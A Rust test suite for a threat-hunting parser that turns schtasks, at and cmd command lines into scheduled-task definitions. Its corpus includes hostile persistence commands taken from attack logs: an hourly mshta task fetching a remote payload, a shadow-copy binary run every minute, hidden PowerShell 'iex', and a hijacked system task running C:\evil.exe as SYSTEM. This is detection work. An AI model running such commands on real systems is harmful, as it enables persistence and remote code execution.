//! schtasks.exe, at.exe and cmd.exe command lines into task commands. Expected values are worked
//! out by hand from schtasks.exe's and at.exe's documented syntax and the documented Windows
//! argument-splitting rules; corpus lines are copied from the Sysmon/4688 events they came from.

use taskhunt_tasks::schtasks::{Tool, Verb, parse_all, parse_command_line, split_args};
use taskhunt_tasks::{Action, OriginKind, TaskDefinition, Trigger, TriggerKind};

fn parse(line: &str) -> taskhunt_tasks::schtasks::TaskCommand {
    parse_command_line(line).unwrap_or_else(|| panic!("not recognised: {line}"))
}

fn def(line: &str) -> TaskDefinition {
    parse(line).definition.unwrap_or_else(|| panic!("no definition: {line}"))
}

fn trigger(line: &str) -> Trigger {
    let d = def(line);
    assert_eq!(d.triggers.len(), 1, "{line}: {:?}", d.triggers);
    d.triggers[0].clone()
}

fn exec(command: &str, arguments: Option<&str>) -> Action {
    Action::Exec { command: command.into(), arguments: arguments.map(str::to_string), working_directory: None }
}

fn v(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

// ------------------------------------------------------------------------------------------------
// Argument splitting

#[test]
fn split_basic_and_program_name() {
    assert_eq!(split_args("a b  c"), v(&["a", "b", "c"]));
    assert_eq!(split_args(r#""C:\Program Files\x.exe" -a "b c""#), v(&[r"C:\Program Files\x.exe", "-a", "b c"]));
    // The program name ends at its closing quote, even without a blank after it.
    assert_eq!(split_args(r#""C:\a b\x.exe"arg1 arg2"#), v(&[r"C:\a b\x.exe", "arg1", "arg2"]));
    // An unquoted program name takes no backslash or quote rules.
    assert_eq!(split_args(r#"C:\x\"y z"#), v(&[r#"C:\x\"y"#, "z"]));
    assert_eq!(split_args(""), Vec::<String>::new());
    assert_eq!(split_args(" \t "), Vec::<String>::new());
    assert_eq!(split_args(r#"p """#), v(&["p", ""]));
}

#[test]
fn split_documented_backslash_and_quote_table() {
    // The argument table of Microsoft's "Parsing C++ command-line arguments", behind a program name.
    assert_eq!(split_args(r#"p "abc" d e"#), v(&["p", "abc", "d", "e"]));
    assert_eq!(split_args(r#"p a\\b d"e f"g h"#), v(&["p", r"a\\b", "de fg", "h"]));
    assert_eq!(split_args(r#"p a\\\"b c d"#), v(&["p", r#"a\"b"#, "c", "d"]));
    assert_eq!(split_args(r#"p a\\\\"b c" d e"#), v(&["p", r"a\\b c", "d", "e"]));
    assert_eq!(split_args(r#"p a"b"" c d"#), v(&["p", r#"ab" c d"#]));
}

#[test]
fn split_unbalanced_quotes_run_to_the_end() {
    assert_eq!(split_args(r#"p "abc def"#), v(&["p", "abc def"]));
    assert_eq!(split_args(r#""unclosed program"#), v(&["unclosed program"]));
    assert_eq!(split_args("p \\"), v(&["p", "\\"]));
}

// ------------------------------------------------------------------------------------------------
// Corpus command lines

#[test]
fn corpus_mshta_every_hour() {
    // Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx
    let line = r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#;
    let c = parse(line);
    assert_eq!((c.tool, c.verb), (Tool::Schtasks, Verb::Create));
    assert_eq!(c.task_name.as_deref(), Some(r"\MSOFFICE_"));
    assert!(c.force);
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    let d = c.definition.unwrap();
    assert_eq!(d.name, r"\MSOFFICE_");
    assert_eq!(d.origin.kind, OriginKind::CommandLine);
    assert_eq!(d.actions, vec![exec("mshta.exe", Some("https://hotelesms.com/Injection.txt"))]);
    // Every 60 minutes = every hour.
    let t = &d.triggers[0];
    assert_eq!(t.kind, TriggerKind::Time);
    assert_eq!(t.repetition_interval.as_deref(), Some("PT1H"));
}

#[test]
fn corpus_shadow_copy_binary_every_minute() {
    // Execution/sysmon_exec_from_vss_persistence.evtx: the schtasks process and its cmd parent.
    let own = r#"C:\Windows\system32\schtasks.exe  /create /sc minute /mo 1 /tn "eyNQLDvUSuvVPg" /tr "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy7\\Windows\Temp\svhost64.exe" "#;
    let parent = r#"cmd.exe /c %SYSTEMROOT%\system32\schtasks.exe /create /sc minute /mo 1 /tn "eyNQLDvUSuvVPg" /tr "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy7\\Windows\Temp\svhost64.exe" "#;
    for line in [own, parent] {
        let c = parse(line);
        assert_eq!(c.task_name.as_deref(), Some(r"\eyNQLDvUSuvVPg"));
        let d = c.definition.unwrap();
        // Backslashes not followed by a quote are literal.
        assert_eq!(d.actions, vec![exec(r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy7\\Windows\Temp\svhost64.exe", None)]);
        assert_eq!(d.triggers[0].kind, TriggerKind::Time);
        assert_eq!(d.triggers[0].repetition_interval.as_deref(), Some("PT1M"));
    }
}

#[test]
fn corpus_calc_at_logon_as_system() {
    // AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx
    for line in [
        r#"cmd  /c schtasks /create /tn "mysc" /tr C:\windows\system32\calc.exe /sc ONLOGON /ru "System" /f"#,
        r#"schtasks  /create /tn "mysc" /tr C:\windows\system32\calc.exe /sc ONLOGON /ru "System" /f"#,
    ] {
        let c = parse(line);
        assert_eq!((c.verb, c.task_name.as_deref(), c.run_as.as_deref(), c.force), (Verb::Create, Some(r"\mysc"), Some("System"), true));
        let d = c.definition.unwrap();
        assert_eq!(d.principal.user_id.as_deref(), Some("System"));
        assert_eq!(d.actions, vec![exec(r"C:\windows\system32\calc.exe", None)]);
        assert_eq!(d.triggers[0].kind, TriggerKind::Logon);
        assert_eq!(d.triggers[0].detail, None);
    }
}

#[test]
fn corpus_atomic_cmd_quote_rule_and_password_dropped() {
    // cmd /c "..." with more than two quotes: cmd removes the first and the last quote.
    let line = r#""C:\Windows\system32\cmd.exe" /c "SCHTASKS /Create /S localhost /RU DOMAIN\user /RP At0micStrong /TN " Atomic "task /TR C:\windows\system32\cmd.exe /SC daily /ST 20:10""#;
    let child = r#"SCHTASKS  /Create /S localhost /RU DOMAIN\user /RP At0micStrong /TN " Atomic "task /TR C:\windows\system32\cmd.exe /SC daily /ST 20:10"#;
    for l in [line, child] {
        let c = parse(l);
        // `" Atomic "task` is one argument: ` Atomic task`.
        assert_eq!(c.task_name.as_deref(), Some(r"\ Atomic task"));
        assert_eq!(c.remote_host.as_deref(), Some("localhost"));
        assert_eq!(c.run_as.as_deref(), Some(r"DOMAIN\user"));
        assert!(c.warnings.iter().any(|w| w.contains("local machine")), "{:?}", c.warnings);
        let d = c.definition.clone().unwrap();
        assert_eq!(d.origin.remote, Some(false));
        assert_eq!(d.principal.logon_type.as_deref(), Some("Password"));
        assert_eq!(d.actions, vec![exec(r"C:\windows\system32\cmd.exe", None)]);
        let t = &d.triggers[0];
        assert_eq!((t.kind, t.days_interval, t.start_boundary.as_deref()), (TriggerKind::Daily, Some(1), Some("T20:10:00")));
        assert!(!serde_json::to_string(&c).unwrap().contains("At0micStrong"));
    }
}

#[test]
fn corpus_once_and_xml_and_delete_and_run() {
    let t = trigger(r#""C:\Windows\system32\cmd.exe" /c "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\windows\system32\cmd.exe /ST 20:10""#);
    assert_eq!((t.kind, t.start_boundary.as_deref()), (TriggerKind::Time, Some("T20:10:00")));

    let c = parse(
        r#""C:\Windows\System32\cmd.exe"  /C schtasks /Create /f /XML C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp /TN DataUsageHandlers"#,
    );
    assert_eq!((c.verb, c.force, c.task_name.as_deref()), (Verb::Create, true, Some(r"\DataUsageHandlers")));
    assert_eq!(c.xml_file.as_deref(), Some(r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp"));
    assert!(c.definition.is_none());

    let c = parse(r#""C:\Windows\System32\schtasks.exe" /create /xml c:\users\ieuser\appdata\local\temp\elevator.xml /tn elevator"#);
    assert_eq!(c.xml_file.as_deref(), Some(r"c:\users\ieuser\appdata\local\temp\elevator.xml"));

    let c = parse(r#""C:\Windows\System32\schtasks.exe" /delete /tn elevator"#);
    assert_eq!((c.verb, c.task_name.as_deref(), c.force, c.definition.is_none()), (Verb::Delete, Some(r"\elevator"), false, true));

    let c =
        parse(r#"C:\Windows\system32\schtasks.exe /delete /f /TN "Microsoft\Windows\Customer Experience Improvement Program\Uploader""#);
    assert_eq!((c.verb, c.force), (Verb::Delete, true));
    assert_eq!(c.task_name.as_deref(), Some(r"\Microsoft\Windows\Customer Experience Improvement Program\Uploader"));

    // /i is a flag for /run (ignore constraints), not idle minutes.
    let c = parse(r#""C:\Windows\System32\schtasks.exe" /run /tn "\Microsoft\Windows\DiskCleanup\SilentCleanup" /i"#);
    assert_eq!((c.verb, c.task_name.as_deref()), (Verb::Run, Some(r"\Microsoft\Windows\DiskCleanup\SilentCleanup")));
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);

    // Redirections after the command are cmd's, not schtasks'.
    let c =
        parse(r#"C:\Windows\system32\cmd.exe /c schtasks /run /TN "Microsoft\Windows\Windows Error Reporting\QueueReporting" > nul 2>&1"#);
    assert_eq!((c.verb, c.task_name.as_deref()), (Verb::Run, Some(r"\Microsoft\Windows\Windows Error Reporting\QueueReporting")));
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
}

#[test]
fn corpus_at_interactive() {
    let c = parse(r#""C:\Windows\system32\cmd.exe" /c "at 13:20 /interactive cmd""#);
    assert_eq!((c.tool, c.verb, c.task_name.as_deref()), (Tool::At, Verb::Create, None));
    assert!(c.warnings.iter().any(|w| w.contains("At<n>")));
    let d = c.definition.unwrap();
    assert_eq!(d.name, r"\At");
    assert_eq!(d.principal.user_id.as_deref(), Some("SYSTEM"));
    assert_eq!(d.actions, vec![exec("cmd", None)]);
    assert_eq!((d.triggers[0].kind, d.triggers[0].start_boundary.as_deref()), (TriggerKind::Time, Some("T13:20:00")));
    assert_eq!(parse("at  13:20 /interactive cmd").definition.unwrap().triggers, d.triggers);
}

// ------------------------------------------------------------------------------------------------
// schtasks switches

#[test]
fn remote_creation_with_credentials() {
    let c = parse(r#"schtasks /create /s \\dc01 /u CORP\admin /p Passw0rd /tn Updater /tr "C:\Windows\Temp\u.exe" /sc onstart /ru SYSTEM"#);
    assert_eq!(c.remote_host.as_deref(), Some("dc01"));
    let d = c.definition.clone().unwrap();
    assert_eq!(d.origin.remote, Some(true));
    assert_eq!(d.origin.account.as_deref(), Some(r"CORP\admin"));
    assert_eq!(d.principal.user_id.as_deref(), Some("SYSTEM"));
    assert_eq!(d.triggers[0].kind, TriggerKind::Boot);
    assert!(!serde_json::to_string(&c).unwrap().contains("Passw0rd"));
}

#[test]
fn switch_spellings() {
    // Case, `-` instead of `/`, a path and `.EXE`, `/name:value`.
    let c = parse(r"C:\WINDOWS\SysWOW64\SchTasks.EXE -CREATE -TN t -TR calc -SC OnStart");
    assert_eq!((c.verb, c.task_name.as_deref()), (Verb::Create, Some(r"\t")));
    assert_eq!(c.definition.unwrap().triggers[0].kind, TriggerKind::Boot);
    let c = parse("schtasks /create /tn:inline /tr:calc.exe /sc:onlogon");
    assert_eq!(c.task_name.as_deref(), Some(r"\inline"));
    assert_eq!(c.definition.unwrap().actions, vec![exec("calc.exe", None)]);
    assert_eq!(parse("schtasks").verb, Verb::Query);
    assert_eq!(parse("schtasks /query /fo LIST /v").verb, Verb::Query);
    let c = parse("schtasks /query /xml");
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    assert_eq!(parse(r"schtasks /end /tn \x").verb, Verb::End);
    assert_eq!(parse("schtasks /?").verb, Verb::Other);
}

#[test]
fn tr_quoting() {
    // Escaped quotes inside /tr keep a path with blanks together.
    let d = def(r#"schtasks /create /tn t /sc onlogon /tr "\"C:\Program Files\App\app.exe\" --silent""#);
    assert_eq!(d.actions, vec![exec(r"C:\Program Files\App\app.exe", Some("--silent"))]);
    // Without inner quotes Task Scheduler splits at the first blank.
    let d = def(r#"schtasks /create /tn t /sc onlogon /tr "C:\Program Files\x.exe -a""#);
    assert_eq!(d.actions, vec![exec(r"C:\Program", Some(r"Files\x.exe -a"))]);
    let d = def(r#"schtasks /create /tn t /sc onstart /tr "powershell -w hidden -c \"iex (gc C:\x.txt)\"""#);
    assert_eq!(d.actions, vec![exec("powershell", Some(r#"-w hidden -c "iex (gc C:\x.txt)""#))]);
}

#[test]
fn daily_weekly_monthly_schedules() {
    let t = trigger("schtasks /create /tn d /tr x.exe /sc daily /mo 3 /sd 2026-01-05 /st 03:00");
    assert_eq!((t.kind, t.days_interval, t.start_boundary.as_deref()), (TriggerKind::Daily, Some(3), Some("2026-01-05T03:00:00")));

    let t = trigger("schtasks /create /tn w /tr x.exe /sc weekly /mo 2 /d MON,FRI /st 09:30");
    assert_eq!((t.kind, t.weeks_interval), (TriggerKind::Weekly, Some(2)));
    assert_eq!(t.days_of_week, v(&["Monday", "Friday"]));
    assert_eq!(t.start_boundary.as_deref(), Some("T09:30:00"));
    // Weekly without /d runs on Mondays; /d * is every day.
    assert_eq!(trigger("schtasks /create /tn w /tr x /sc weekly").days_of_week, v(&["Monday"]));
    assert_eq!(trigger("schtasks /create /tn w /tr x /sc weekly /d *").days_of_week.len(), 7);

    let t = trigger("schtasks /create /tn m /tr x.exe /sc monthly /mo third /d WED /m JAN,JUL");
    assert_eq!(t.kind, TriggerKind::MonthlyDayOfWeek);
    assert_eq!(
        (t.days_of_week.clone(), t.months.clone(), t.detail.as_deref()),
        (v(&["Wednesday"]), v(&["January", "July"]), Some("week 3"))
    );

    let t = trigger("schtasks /create /tn m /tr x.exe /sc monthly /mo lastday /m *");
    assert_eq!((t.kind, t.days_of_month.clone(), t.months.is_empty()), (TriggerKind::Monthly, v(&["Last"]), true));

    let t = trigger("schtasks /create /tn m /tr x.exe /sc monthly /d 15");
    assert_eq!((t.kind, t.days_of_month.clone()), (TriggerKind::Monthly, v(&["15"])));
    // Monthly without /d: the first of the month.
    assert_eq!(trigger("schtasks /create /tn m /tr x /sc monthly /mo 2").days_of_month, v(&["1"]));

    let t = trigger("schtasks /create /tn h /tr x.exe /sc hourly /mo 4");
    assert_eq!((t.kind, t.repetition_interval.as_deref()), (TriggerKind::Time, Some("PT4H")));
    let t = trigger("schtasks /create /tn h /tr x.exe /sc minute /mo 10");
    assert_eq!(t.repetition_interval.as_deref(), Some("PT10M"));
}

#[test]
fn dates_in_both_orders() {
    // en-US month/day/year, reported as a guess when both numbers could be the month.
    let c = parse("schtasks /create /tn d /tr x /sc once /sd 01/05/2026 /st 03:00");
    assert_eq!(c.definition.unwrap().triggers[0].start_boundary.as_deref(), Some("2026-01-05T03:00:00"));
    assert!(c.warnings.iter().any(|w| w.contains("month/day/year")));
    // 25 cannot be a month: day/month/year, no guess.
    let c = parse("schtasks /create /tn d /tr x /sc once /sd 25/12/2026 /st 23:59 /ed 2027/01/31");
    let t = &c.definition.as_ref().unwrap().triggers[0];
    assert_eq!((t.start_boundary.as_deref(), t.end_boundary.as_deref()), (Some("2026-12-25T23:59:00"), Some("2027-01-31")));
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    let c = parse("schtasks /create /tn d /tr x /sc once /st 25:00 /sd 13/13/2026");
    assert_eq!(c.definition.unwrap().triggers[0].start_boundary, None);
    assert_eq!(c.warnings.len(), 2, "{:?}", c.warnings);
}

#[test]
fn repetition_duration_and_delay() {
    let t = trigger("schtasks /create /tn r /tr x /sc daily /st 08:00 /ri 15 /du 02:30");
    assert_eq!((t.repetition_interval.as_deref(), t.repetition_duration.as_deref()), (Some("PT15M"), Some("PT2H30M")));
    // /et 02:00 after /st 22:00 wraps past midnight: four hours.
    let t = trigger("schtasks /create /tn r /tr x /sc daily /st 22:00 /ri 30 /et 02:00");
    assert_eq!(t.repetition_duration.as_deref(), Some("PT4H"));
    let t = trigger("schtasks /create /tn r /tr x /sc daily /st 00:00 /ri 90");
    assert_eq!(t.repetition_interval.as_deref(), Some("PT1H30M"));
    let t = trigger("schtasks /create /tn b /tr x /sc onstart /delay 0010:30");
    assert_eq!(t.delay.as_deref(), Some("PT10M30S"));
}

#[test]
fn idle_event_principal_settings() {
    let t = trigger("schtasks /create /tn i /tr x /sc onidle /i 10");
    assert_eq!((t.kind, t.detail.as_deref()), (TriggerKind::Idle, Some("idle for 10 minutes")));
    let t = trigger(r#"schtasks /create /tn e /tr x /sc onevent /ec Security /mo "*[System[(EventID=4625)]]""#);
    assert_eq!((t.kind, t.detail.as_deref()), (TriggerKind::Event, Some("Security: *[System[(EventID=4625)]]")));

    let d = def("schtasks /create /tn p /tr x /sc onlogon /ru SYSTEM /rl HIGHEST /z");
    assert_eq!(d.principal.run_level.as_deref(), Some("HighestAvailable"));
    assert_eq!(d.settings.delete_expired_task_after.as_deref(), Some("PT0S"));
    assert_eq!(def("schtasks /create /tn p /tr x /sc onlogon /rl limited").principal.run_level.as_deref(), Some("LeastPrivilege"));
    assert_eq!(def("schtasks /create /tn p /tr x /sc onlogon /ru u /np").principal.logon_type.as_deref(), Some("S4U"));
    assert_eq!(def("schtasks /create /tn p /tr x /sc onlogon /ru u /it").principal.logon_type.as_deref(), Some("InteractiveToken"));
    // /ru "" is the SYSTEM account.
    assert_eq!(def(r#"schtasks /create /tn p /tr x /sc onlogon /ru """#).principal.user_id.as_deref(), Some("SYSTEM"));
    assert_eq!(
        def(r#"schtasks /create /tn p /tr x /sc onlogon /ru "NT AUTHORITY\SYSTEM""#).principal.user_id.as_deref(),
        Some(r"NT AUTHORITY\SYSTEM")
    );
}

#[test]
fn change_holds_only_what_it_sets() {
    let c = parse(r"schtasks /change /tn \Microsoft\Windows\Foo /tr C:\evil.exe /ru SYSTEM");
    assert_eq!(c.verb, Verb::Change);
    let d = c.definition.unwrap();
    assert_eq!(d.actions, vec![exec(r"C:\evil.exe", None)]);
    assert_eq!(d.principal.user_id.as_deref(), Some("SYSTEM"));
    assert!(d.triggers.is_empty());
    assert!(!def(r"schtasks /change /tn \x /disable").settings.enabled);
    let d = def(r"schtasks /change /tn \x /st 04:00");
    assert_eq!(d.triggers[0].start_boundary.as_deref(), Some("T04:00:00"));
}

#[test]
fn cmd_chains_carets_and_the_most_telling_command() {
    let line = "cmd /c schtasks /delete /tn x /f & schtasks /create /tn x /tr y.exe /sc onstart";
    let all = parse_all(line);
    assert_eq!(all.iter().map(|c| c.verb).collect::<Vec<_>>(), vec![Verb::Delete, Verb::Create]);
    assert_eq!(parse(line).verb, Verb::Create);
    let c = parse("cmd /c sch^tasks /cre^ate /tn t /tr x /sc onstart && echo ok");
    assert_eq!((c.verb, c.task_name.as_deref()), (Verb::Create, Some(r"\t")));
    // cmd /q /d /c ... and a start wrapper.
    let c = parse(r#"cmd.exe /q /d /c start "" /b schtasks /run /tn x"#);
    assert_eq!((c.verb, c.task_name.as_deref()), (Verb::Run, Some(r"\x")));
}

#[test]
fn malformed_schtasks_lines_give_warnings() {
    let c = parse("schtasks /create /tr x.exe /sc sometimes");
    assert!(c.warnings.iter().any(|w| w == "no /tn"), "{:?}", c.warnings);
    let t = &c.definition.as_ref().unwrap().triggers[0];
    assert_eq!((t.kind, t.detail.as_deref()), (TriggerKind::Other, Some("sometimes")));
    let c = parse("schtasks /create /tn a /tn b /tr x /sc daily /mo abc stray");
    assert_eq!(c.task_name.as_deref(), Some(r"\a"));
    assert_eq!(c.warnings.len(), 3, "{:?}", c.warnings);
    let c = parse("schtasks /create /tn a /sc minute /mo 5000 /tr");
    assert!(c.warnings.iter().any(|w| w.contains("/tr has no value")), "{:?}", c.warnings);
    assert!(c.warnings.iter().any(|w| w.contains("outside 1-1439")), "{:?}", c.warnings);
    let long = format!("schtasks /create /tn a /sc onstart /tr C:\\{}.exe", "a".repeat(300));
    assert!(parse(&long).warnings.iter().any(|w| w.contains("261")));
}

#[test]
fn not_task_commands() {
    for line in ["", "   ", "notepad.exe C:\\x.txt", "cmd /c dir", "cmd.exe", r"C:\Windows\explorer.exe", "echo meet at 13:00"] {
        assert!(parse_command_line(line).is_none(), "{line}");
    }
}

#[test]
fn embedded_in_another_programs_text() {
    let c = parse(
        r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""schtasks /create /tn m /tr calc.exe /sc onlogon"", 0:close")"#,
    );
    assert_eq!((c.tool, c.verb, c.task_name.as_deref()), (Tool::Schtasks, Verb::Create, Some(r"\m")));
    assert_eq!(c.definition.unwrap().triggers[0].kind, TriggerKind::Logon);
    assert!(c.warnings.iter().any(|w| w.contains("inside another program")));
}

// ------------------------------------------------------------------------------------------------
// at.exe

#[test]
fn at_schedules() {
    let d = def(r"at 03:00 /every:M,T cmd /c C:\x.bat");
    let t = &d.triggers[0];
    assert_eq!(
        (t.kind, t.days_of_week.clone(), t.start_boundary.as_deref()),
        (TriggerKind::Weekly, v(&["Monday", "Tuesday"]), Some("T03:00:00"))
    );
    assert_eq!(d.actions, vec![exec("cmd", Some(r"/c C:\x.bat"))]);

    let c = parse(r"at \\host 12:00 cmd");
    assert_eq!(c.remote_host.as_deref(), Some("host"));
    let d = c.definition.unwrap();
    assert_eq!(d.origin.remote, Some(true));
    assert_eq!((d.triggers[0].kind, d.triggers[0].start_boundary.as_deref()), (TriggerKind::Time, Some("T12:00:00")));

    let t = trigger("at 23:00 /every:1,15 backup.bat");
    assert_eq!((t.kind, t.days_of_month.clone()), (TriggerKind::Monthly, v(&["1", "15"])));
    let t = trigger(r#"at 9:00 /next:F "cmd /c dir > c:\out.txt""#);
    assert_eq!((t.kind, t.detail.as_deref(), t.start_boundary.as_deref()), (TriggerKind::Time, Some("next F"), Some("T09:00:00")));
    assert_eq!(def(r#"at 9:00 /next:F "cmd /c dir > c:\out.txt""#).actions, vec![exec("cmd", Some(r"/c dir > c:\out.txt"))]);
}

#[test]
fn at_delete_and_query() {
    let c = parse("at 3 /delete");
    assert_eq!((c.tool, c.verb, c.task_name.as_deref()), (Tool::At, Verb::Delete, Some(r"\At3")));
    let c = parse(r"at.exe \\srv /delete /yes");
    assert_eq!((c.verb, c.force, c.task_name.as_deref(), c.remote_host.as_deref()), (Verb::Delete, true, None, Some("srv")));
    assert_eq!(parse("at").verb, Verb::Query);
    assert_eq!(parse("at 4").verb, Verb::Query);
    let c = parse("at 99:99 cmd");
    assert!(c.warnings.iter().any(|w| w.contains("not a time")), "{:?}", c.warnings);
}

// ------------------------------------------------------------------------------------------------
// Hostile input

#[test]
fn huge_lines_are_cut_not_fatal() {
    let line = format!("schtasks /create /tn x /sc onstart /tr {}", "A".repeat(1 << 20));
    let c = parse(&line);
    assert!(c.warnings.iter().any(|w| w.contains("read only the start")));
    for filler in ["\"", "\\", "^", "&", " ", "(", "\\\"", "%", "/"] {
        let line = format!("cmd /c schtasks /create /tn x {}", filler.repeat(1 << 20));
        let _ = parse_all(&line);
        let _ = split_args(&line);
    }
}

#[test]
fn deep_wrappers_stop() {
    let line = format!("{}schtasks /run /tn x", "cmd /c ".repeat(5000));
    let _ = parse_all(&line);
    let line = format!("{}\"schtasks /run /tn x\"", "cmd /c \"".repeat(2000));
    let _ = parse_all(&line);
}

#[test]
fn control_characters_and_odd_text_do_not_panic() {
    let pieces = [
        "schtasks",
        "/create",
        "/tn",
        "/tr",
        "/sc",
        "/mo",
        "/d",
        "/st",
        "/sd",
        "\"",
        "\\",
        "\0",
        "\u{1b}[31m",
        "\r\n",
        "\t",
        "é",
        "𝔘",
        "\u{202e}",
        ":",
        "*",
        ",",
        "at",
        "cmd",
        "/c",
        "&",
        "|",
        ">",
        "^",
        "%",
        "powershell",
        "-enc",
        "-c",
        "$(",
        "{",
        "'",
        "`",
    ];
    let mut seed = 0x2545_f491_u64;
    for _ in 0..3000 {
        let mut line = String::new();
        for _ in 0..(seed % 24) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            line.push_str(pieces[(seed % pieces.len() as u64) as usize]);
            if seed.is_multiple_of(3) {
                line.push(' ');
            }
        }
        let _ = parse_all(&line);
        let _ = split_args(&line);
    }
}
